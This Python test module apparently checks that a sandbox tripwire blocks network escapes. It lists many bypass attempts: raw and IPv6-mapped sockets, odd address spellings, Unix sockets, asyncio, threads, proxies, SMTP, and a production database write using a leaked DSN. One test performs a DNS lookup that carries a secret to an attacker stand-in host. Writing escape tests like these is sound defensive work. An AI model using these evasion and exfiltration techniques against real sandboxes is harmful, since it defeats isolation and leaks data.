"""Attempts through Python's own sockets, in every wrapping."""

import asyncio
import http.client
import smtplib
import socket
import threading
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import httpx2

from tests.escapes.outside import Outside
from tests.escapes.registry import Chapter, Layer, Outer

sockets = Chapter("Python's own sockets")


@sockets.tries(Layer.TRIPWIRE)
def connect(out: Outside) -> None:
    """`socket.connect()` by address."""
    socket.socket().connect(out.address)


@sockets.tries(Layer.TRIPWIRE)
def connect_ex(out: Outside) -> None:
    """`socket.connect_ex()`, which reports an error instead of raising it."""
    socket.socket().connect_ex(out.address)


@sockets.tries(Layer.TRIPWIRE)
def ipv6_mapped(out: Outside) -> None:
    """An IPv4 address in the clothes of IPv6."""
    socket.socket(socket.AF_INET6).connect((f"::ffff:{out.host}", out.port))


@sockets.tries(Layer.TRIPWIRE)
def odd_spelling(out: Outside) -> None:
    """An address that only C reads as one: `127.9`."""
    socket.socket().connect((out.host.replace(".0.0.", "."), out.port))


@sockets.tries(Layer.TRIPWIRE)
def name(out: Outside) -> None:
    """A host by its name."""
    socket.create_connection(("monolith-pg-rw", out.port))


@sockets.tries(Layer.TRIPWIRE, resolver=True)
def look_up(_out: Outside) -> None:
    """A look-up that carries a secret in the name."""
    socket.getaddrinfo("secret.attacker.example.", 443)


@sockets.tries(Layer.TRIPWIRE)
def number_that_is_a_name(out: Outside) -> None:
    """A string that says another address each time it is asked."""

    class Liar(str):
        __slots__ = ()

        def __eq__(self, _other: object) -> bool:
            return True

        def __str__(self) -> str:
            return "127.0.0.7"

        __hash__ = str.__hash__

    socket.socket().connect((Liar(out.host), out.port))


@sockets.tries(Layer.TRIPWIRE)
def datagram(out: Outside) -> None:
    """A datagram by `sendto()`, as DNS and StatsD send them."""
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", out.address)


@sockets.tries(Layer.TRIPWIRE)
def datagram_by_sendmsg(out: Outside) -> None:
    """A datagram by `sendmsg()`."""
    socket.socket(type=socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, out.address)


@sockets.tries(Layer.TRIPWIRE)
def connected_datagrams(out: Outside) -> None:
    """A socket for datagrams that is connected first, and sent on then."""
    sock = socket.socket(type=socket.SOCK_DGRAM)
    sock.connect(out.address)
    sock.send(b"x")


@sockets.tries(Layer.TRIPWIRE)
def fast_open(out: Outside) -> None:
    """TCP fast open, which connects without `connect()`."""
    socket.socket().sendto(b"x", socket.MSG_FASTOPEN, out.address)


@sockets.tries(Layer.TRIPWIRE)
def unix_socket(out: Outside) -> None:
    """A Unix socket by its path, such as Docker's or production's."""
    socket.socket(socket.AF_UNIX).connect(out.path)


@sockets.tries(Layer.TRIPWIRE)
def unix_socket_in_bytes(out: Outside) -> None:
    """The same path as bytes, and by a detour."""
    path = out.path.encode().replace(b"/.s.", b"/./.s.")
    socket.socket(socket.AF_UNIX).connect(path)


@sockets.tries(Layer.TRIPWIRE)
def asyncio_stream(out: Outside) -> None:
    """A stream of asyncio."""
    asyncio.run(_open(out))


async def _open(out: Outside) -> None:
    await asyncio.open_connection(*out.address)


@sockets.tries(Layer.TRIPWIRE)
def asyncio_datagram(out: Outside) -> None:
    """A datagram of asyncio."""

    async def send() -> None:
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=out.address
        )
        transport.sendto(b"x")
        transport.close()

    asyncio.run(send())


@sockets.tries(Layer.TRIPWIRE)
def asyncio_sock_connect(out: Outside) -> None:
    """A bare socket, connected by the loop; aiohttp, and so discord.py, does this."""

    async def reach() -> None:
        sock = socket.socket()
        sock.setblocking(False)  # noqa: FBT003  the standard library's signature
        await asyncio.get_running_loop().sock_connect(sock, out.address)

    asyncio.run(reach())


@sockets.tries(Layer.TRIPWIRE)
def thread(out: Outside) -> None:
    """A thread that is started by a request."""
    with ThreadPoolExecutor() as pool:
        pool.submit(socket.create_connection, out.address).result()


@sockets.tries(Layer.TRIPWIRE)
def thread_from_before(out: Outside) -> object:
    """A thread that was started before anything was armed."""
    go = threading.Event()
    caught: list[OSError] = []

    def reach() -> None:
        go.wait()
        try:
            socket.create_connection(out.address)
        except OSError as error:
            caught.append(error)

    early = threading.Thread(target=reach)
    early.start()
    yield
    go.set()
    early.join()
    if caught:
        raise caught[0]


@sockets.tries(Layer.TRIPWIRE)
def http_client(out: Outside) -> None:
    """An HTTP request of the standard library."""
    http.client.HTTPConnection(*out.address).request("GET", "/")


@sockets.tries(Layer.TRIPWIRE)
def http_library(out: Outside) -> None:
    """An HTTP request of a library, to a host by its name."""
    httpx2.get(f"http://hooks.example:{out.port}/", trust_env=False)


@sockets.tries(Layer.TRIPWIRE, variables={"http_proxy": "http://127.0.0.9:{port}"})
def http_proxy(out: Outside) -> None:
    """An HTTP request to an allowed name, by a proxy that the environment names."""
    urllib.request.urlopen("http://monolith-pg-pr-7-rw/")


@sockets.tries(Layer.TRIPWIRE)
def mail(out: Outside) -> None:
    """A letter by SMTP."""
    smtplib.SMTP(*out.address).sendmail("a@example.com", ["b@example.com"], "x")


@sockets.tries(Layer.TRIPWIRE)
def asyncpg_of_its_own(out: Outside) -> None:
    """A route that connects to production by asyncpg, with a DSN that has leaked to it."""
    import asyncpg  # noqa: PLC0415  past the ban on it

    async def harm() -> None:
        connection = await asyncpg.connect(out.source)
        await connection.execute("INSERT INTO harm DEFAULT VALUES")

    asyncio.run(harm())


@sockets.tries(
    Layer.NOTHING,
    why="what is open needs no permission; `monolith serve` opens nothing before it is sealed",
    held_by=Outer.ORDER,
    blind_spot="file descriptors that were open before",
)
def open_before(out: Outside) -> object:
    """A connection that was open before, or was inherited."""
    sock = socket.socket(type=socket.SOCK_DGRAM)
    sock.connect(out.address)
    yield
    sock.send(b"x")
